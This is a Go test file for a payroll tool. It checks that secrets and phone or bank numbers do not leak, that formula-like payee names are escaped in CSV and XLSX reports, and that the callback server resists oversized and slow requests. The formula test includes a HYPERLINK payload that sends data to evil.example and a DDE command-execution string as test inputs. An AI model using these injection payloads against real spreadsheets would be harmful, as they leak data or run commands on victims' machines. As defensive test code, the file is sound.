package main

import (
	"archive/zip"
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"payroll/batch"
	"payroll/ledger"
	"payroll/providers"
	"payroll/providers/sandbox"
)

// credentialValues are the five secrets the harness exported.
func credentialValues(c sandbox.Credentials) map[string]string {
	return map[string]string{
		"KOPOKOPO_CLIENT_ID": c.KopoKopoClientID, "KOPOKOPO_CLIENT_SECRET": c.KopoKopoClientSecret,
		"KOPOKOPO_API_KEY": c.KopoKopoAPIKey, "KIOTAPAY_API_KEY": c.KiotaPayAPIKey, "KIOTAPAY_API_SECRET": c.KiotaPayAPISecret,
	}
}

// xlsxText returns every file of an XLSX (a zip of XML parts) as text.
func xlsxText(t *testing.T, path string) string {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	var b strings.Builder
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.Copy(&b, rc); err != nil {
			t.Fatal(err)
		}
		rc.Close()
	}
	return b.String()
}

// sensitiveNumbers reads the sample sheet's phone numbers (in every form
// they could be logged) and bank account numbers.
func sensitiveNumbers(t *testing.T, path string) []string {
	t.Helper()
	recs := readCSV(t, path)
	col := map[string]int{}
	for i, c := range recs[0] {
		col[c] = i
	}
	var out []string
	for _, r := range recs[1:] {
		if ph := r[col["phone"]]; ph != "" {
			country := map[string]string{"KES": "KE", "TZS": "TZ"}[r[col["currency"]]]
			p, err := batch.ParsePhone(ph, country)
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, ph, p.Digits())
		}
		if acc := r[col["account_number"]]; acc != "" {
			out = append(out, acc)
		}
	}
	if len(out) < 20 {
		t.Fatalf("only %d numbers in the sample", len(out))
	}
	return out
}

// TestSecurityNoSecretsLeak runs the sample sheet (wallets, bank
// accounts, tills, paybills; KES and TZS) under faults that make every
// path log, in text and in JSON, then status and report. No credential
// appears in any output, in any report file (CSV, JSON, every XML part
// of the XLSX) or anywhere in the ledger file's bytes; no phone or bank
// account number appears unmasked in the logs; the ledger and the
// reports are 0600 and the report directory 0700.
func TestSecurityNoSecretsLeak(t *testing.T) {
	h := newHarness(t, sandbox.Options{}, knobs{maxDest: 4, poll: "100ms"})
	f := sandbox.Faults{RateLimited: sandbox.Trigger{Next: 1}, RetryAfter: 20 * time.Millisecond, Unavailable: sandbox.Trigger{Every: 5},
		ErrorAfter: sandbox.Trigger{Every: 7}, CallbackForged: sandbox.Trigger{Every: 2}, CallbackWrongAmount: sandbox.Trigger{Every: 3},
		ExpireTokens: sandbox.Trigger{Every: 4}}
	h.sb.SetFaults(sandbox.KopoKopo, f)
	h.sb.SetFaults(sandbox.KiotaPay, f)
	src, err := os.ReadFile(filepath.Join(samplesDir, "payroll-2026-11.csv"))
	if err != nil {
		t.Fatal(err)
	}
	sample := filepath.Join(h.dir, "sec.csv")
	if err := os.WriteFile(sample, src, 0o600); err != nil {
		t.Fatal(err)
	}
	var logs strings.Builder
	collect := func(format string, want []int, sub string, args ...string) {
		t.Helper()
		out, errOut, code := h.cli(sub, append([]string{"--log-format", format}, args...)...)
		ok := false
		for _, w := range want {
			ok = ok || code == w
		}
		if !ok {
			t.Fatalf("%s %v: exit %d\n%s\n%s", sub, args, code, out, errOut)
		}
		logs.WriteString(out)
		logs.WriteString(errOut)
	}
	collect("text", []int{exitUnsettled}, "run", "--wait", "20s", sample)
	collect("json", []int{exitUnsettled}, "run", "--wait", "20s", sample)
	collect("text", []int{exitUnsettled}, "settle", "--wait", "5s", "sec")
	for _, format := range []string{"text", "json"} {
		collect(format, []int{exitOK}, "status")
		collect(format, []int{exitOK}, "status", "sec")
		collect(format, []int{exitOK}, "report", "--format", "csv,xlsx,json", "sec")
	}
	collect("text", []int{exitOK, exitUnsettled}, "validate", sample)
	collect("json", []int{exitOK, exitUnsettled}, "plan", sample)
	text := logs.String()
	if !strings.Contains(text, "WARN") && !strings.Contains(text, `"level":"WARN"`) {
		t.Errorf("no warning logged: the faults exercised nothing\n%s", text)
	}

	files := map[string]string{"stdout/stderr": text}
	for _, ext := range []string{"csv", "json"} {
		b, err := os.ReadFile(filepath.Join(h.rep, "sec."+ext))
		if err != nil {
			t.Fatal(err)
		}
		files["report ."+ext] = string(b)
	}
	files["report .xlsx (XML)"] = xlsxText(t, filepath.Join(h.rep, "sec.xlsx"))
	db, err := os.ReadFile(h.db)
	if err != nil {
		t.Fatal(err)
	}
	files["ledger bytes"] = string(db)
	for name, path := range map[string]string{"journal": ledger.JournalPath(h.db), "report stamp": filepath.Join(h.rep, ".sec.stamp")} {
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		files[name] = string(b)
	}
	for name, secret := range credentialValues(h.sb.Credentials()) {
		for where, content := range files {
			if strings.Contains(content, secret) {
				t.Errorf("%s contains %s", where, name)
			}
		}
	}
	for _, n := range sensitiveNumbers(t, sample) {
		if strings.Contains(text, n) {
			t.Errorf("the logs show the number %s unmasked", n)
		}
	}

	// Modes.
	mode := func(path string) fs.FileMode {
		t.Helper()
		fi, err := os.Stat(path)
		if err != nil {
			t.Fatal(err)
		}
		return fi.Mode().Perm()
	}
	if m := mode(h.db); m != 0o600 {
		t.Errorf("ledger mode %v, want 0600", m)
	}
	if m := mode(h.rep); m != 0o700 {
		t.Errorf("report directory mode %v, want 0700", m)
	}
	entries, err := os.ReadDir(h.rep)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 4 { // the three reports and their stamp
		t.Errorf("report directory holds %d files: %v", len(entries), entries)
	}
	for _, e := range entries {
		if m := mode(filepath.Join(h.rep, e.Name())); m != 0o600 {
			t.Errorf("%s mode %v, want 0600", e.Name(), m)
		}
	}
}

// TestSecurityFormulaEscaping pays rows whose names look like formulas
// (= + - @, tab, CR) through a real run: the CSV and XLSX reports hold
// them with a leading apostrophe, and the XLSX has no formula cell.
func TestSecurityFormulaEscaping(t *testing.T) {
	h := newHarness(t, sandbox.Options{}, knobs{})
	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+SUM(1,2)", "-2+3 Otieno", "@SUM(A1:A9)",
		"\tTabbed Name", "\rCarriage Name", "=cmd|' /C calc'!A0"}
	sheet := []row{}
	for i, n := range names {
		sheet = append(sheet, row{fmt.Sprintf("F%d", i+1), n, fmt.Sprintf("07124%05d", 10+i), fmt.Sprint(1000 + i), "KES"})
	}
	sheet = append(sheet, row{"SAFE", "Plain Name", "0712499999", "1500", "KES"})
	path := h.writeSheet("formula.csv", sheet)
	out, errOut, code := h.cli("run", "--skip-invalid", "--wait", "20s", path)
	if code != exitOK && code != exitUnsettled {
		t.Fatalf("run: exit %d\n%s\n%s", code, out, errOut)
	}
	h.mustCode(exitOK, "report", "--format", "csv,xlsx,json", "formula")
	// What the ledger holds for each name (the sheet reader may trim
	// whitespace such as a leading tab or CR).
	stored := map[string]string{}
	for _, rec := range h.lines("formula") {
		if rec.Invalid != nil {
			stored[rec.Ref] = rec.Invalid.Name
		} else {
			stored[rec.Ref] = rec.Line.Name
		}
	}
	want := func(ref string) string {
		n := stored[ref]
		if n != "" && strings.ContainsRune("=+-@\t\r", rune(n[0])) {
			return "'" + n
		}
		return n
	}
	rows := h.reportRows("formula")
	for _, r := range rows {
		if r["name"] != want(r["reference"]) {
			t.Errorf("CSV report: name of %s is %q, want %q", r["reference"], r["name"], want(r["reference"]))
		}
		for k, v := range r {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("CSV report: %s of %s is %q: a spreadsheet would run it", k, r["reference"], v)
			}
		}
	}
	// A leading tab or CR never reaches the ledger: the sheet reader trims
	// it (the escaping of both is unit-tested in reports).
	for ref, n := range stored {
		if strings.HasPrefix(n, "\t") || strings.HasPrefix(n, "\r") {
			t.Logf("name of %s kept its leading %q", ref, n[:1])
		}
	}
	escaped := 0
	for _, n := range stored {
		if n != "" && strings.ContainsRune("=+-@\t\r", rune(n[0])) {
			escaped++
		}
	}
	if escaped < 4 {
		t.Errorf("only %d formula-like names reached the ledger: %q", escaped, stored)
	}

	x, err := excelize.OpenFile(filepath.Join(h.rep, "formula.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for _, sh := range x.GetSheetList() {
		xr, err := x.GetRows(sh)
		if err != nil {
			t.Fatal(err)
		}
		for ri, r := range xr {
			for ci := range r {
				cell, _ := excelize.CoordinatesToCellName(ci+1, ri+1)
				// The only formulas are the report's own totals below the
				// lines; no cell of the sheet's text became one.
				if fml, _ := x.GetCellFormula(sh, cell); fml != "" && sh == "Lines" && !(ri > len(sheet) && ownTotal.MatchString(fml)) {
					t.Errorf("XLSX %s!%s is a formula: %q", sh, cell, fml)
				}
			}
		}
		if sh != "Lines" {
			continue
		}
		col := map[string]int{}
		for i, c := range xr[0] {
			col[c] = i
		}
		n := 0
		for _, r := range xr[1 : len(sheet)+1] {
			ref := r[col["reference"]]
			if got := r[col["name"]]; got != want(ref) {
				t.Errorf("XLSX report: name of %s is %q, want %q", ref, got, want(ref))
			}
			n++
		}
		if n != len(sheet) {
			t.Errorf("XLSX Lines has %d rows, want %d", n, len(sheet))
		}
	}
	// And the raw XML holds no formula element at all in the Lines sheet.
	if raw := xlsxText(t, filepath.Join(h.rep, "formula.xlsx")); strings.Contains(raw, "HYPERLINK(") && strings.Contains(raw, "<f>HYPERLINK") {
		t.Errorf("the XLSX holds the HYPERLINK as a formula")
	}
}

// startTestCallbacks starts a callback receiver on a fresh ledger.
func startTestCallbacks(t *testing.T) *callbackServer {
	t.Helper()
	db, err := ledger.Open(filepath.Join(t.TempDir(), "cb.db"), ledger.Options{})
	if err != nil {
		t.Fatal(err)
	}
	e := &engine{db: db, log: slog.New(slog.DiscardHandler), settler: &batch.Settler{Ledger: db},
		secrets: providers.Credentials{KopoKopoAPIKey: "k2-key", KiotaPayAPISecret: "kp-secret"}}
	cb, err := startCallbacks(context.Background(), "127.0.0.1:0", "", e)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cb.close()
		db.Close()
	})
	return cb
}

// TestSecurityCallbackLimits: a callback over 1 MiB gets 413 at both
// endpoints; a client that never finishes its headers, and one that
// sends headers and then trickles its body, are cut off by the server's
// timeouts (shortened here; the production values are checked to be
// bounded).
func TestSecurityCallbackLimits(t *testing.T) {
	for name, d := range map[string]time.Duration{"ReadHeaderTimeout": callbackReadHeaderTimeout, "ReadTimeout": callbackReadTimeout,
		"WriteTimeout": callbackWriteTimeout, "IdleTimeout": callbackIdleTimeout} {
		if d <= 0 || d > 2*time.Minute {
			t.Errorf("callback receiver %s = %v: must be set and short", name, d)
		}
	}
	if callbackReadHeaderTimeout > 10*time.Second || callbackReadTimeout > 30*time.Second {
		t.Errorf("callback read timeouts %v/%v are too long against slow clients", callbackReadHeaderTimeout, callbackReadTimeout)
	}
	saved := [4]time.Duration{callbackReadHeaderTimeout, callbackReadTimeout, callbackWriteTimeout, callbackIdleTimeout}
	t.Cleanup(func() {
		callbackReadHeaderTimeout, callbackReadTimeout, callbackWriteTimeout, callbackIdleTimeout = saved[0], saved[1], saved[2], saved[3]
	})
	const hdrTimeout, readTimeout = 300 * time.Millisecond, 700 * time.Millisecond
	callbackReadHeaderTimeout, callbackReadTimeout, callbackWriteTimeout, callbackIdleTimeout = hdrTimeout, readTimeout, time.Second, time.Second
	cb := startTestCallbacks(t)
	addr := cb.ln.Addr().String()

	// Oversized bodies.
	big := strings.Repeat("x", providers.MaxCallbackBody+1)
	for _, url := range []string{cb.kopokopoURL(), cb.kiotapayURL()} {
		resp, err := http.Post(url, "application/json", strings.NewReader(big))
		if err != nil {
			// The server may close the connection while the client still
			// writes; then the status must still have been sent.
			t.Fatalf("POST %s: %v", url, err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("POST %d bytes to %s: HTTP %d, want 413", len(big), url, resp.StatusCode)
		}
	}

	// waitClosed reads until the server closes the connection and returns
	// how long that took and what the server sent.
	waitClosed := func(c net.Conn, start time.Time) (time.Duration, string) {
		c.SetReadDeadline(time.Now().Add(10 * time.Second))
		b, err := io.ReadAll(bufio.NewReader(c))
		var ne net.Error
		if errors.As(err, &ne) && ne.Timeout() {
			t.Errorf("the server kept the connection open for 10 s")
		}
		return time.Since(start), string(b)
	}

	// Headers never finished.
	t.Run("slow headers", func(t *testing.T) {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		start := time.Now()
		fmt.Fprintf(c, "POST /kopokopo HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n", addr)
		took, got := waitClosed(c, start)
		if took < hdrTimeout/2 || took > hdrTimeout+2*time.Second {
			t.Errorf("unfinished headers cut off after %v (ReadHeaderTimeout %v)", took, hdrTimeout)
		}
		if strings.Contains(got, "200 OK") {
			t.Errorf("the server answered 200 to unfinished headers: %q", got)
		}
		t.Logf("unfinished headers: connection closed after %v, server sent %q", took.Round(time.Millisecond), firstLine(got))
	})

	// Headers, then a body trickled a byte every 50 ms.
	t.Run("trickled body", func(t *testing.T) {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		start := time.Now()
		const n = 1000 // would take 50 s at this pace
		fmt.Fprintf(c, "POST /kopokopo HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", addr, n)
		stop := make(chan struct{})
		sent := make(chan int, 1)
		go func() {
			i := 1
			defer func() { sent <- i }()
			tk := time.NewTicker(50 * time.Millisecond)
			defer tk.Stop()
			for ; i < n; i++ {
				select {
				case <-stop:
					return
				case <-tk.C:
				}
				if _, err := c.Write([]byte(" ")); err != nil {
					return
				}
			}
		}()
		took, got := waitClosed(c, start)
		close(stop)
		bytesSent := <-sent
		if took > readTimeout+2*time.Second {
			t.Errorf("trickled body cut off after %v (ReadTimeout %v)", took, readTimeout)
		}
		if bytesSent >= n || strings.Contains(got, "200 OK") {
			t.Errorf("the trickled request completed: %d bytes, %q", bytesSent, got)
		}
		t.Logf("trickled body: cut off after %v and %d of %d bytes, server sent %q", took.Round(time.Millisecond), bytesSent, n, firstLine(got))
	})
}

func firstLine(s string) string {
	line, _, _ := strings.Cut(s, "\r\n")
	return line
}

// ownTotal is the formula of the XLSX report's totals per currency.
var ownTotal = regexp.MustCompile(`^SUMIFS\(G2:G\d+,H2:H\d+,"[A-Z]{3}",I2:I\d+,"<>cancelled"\)$`)
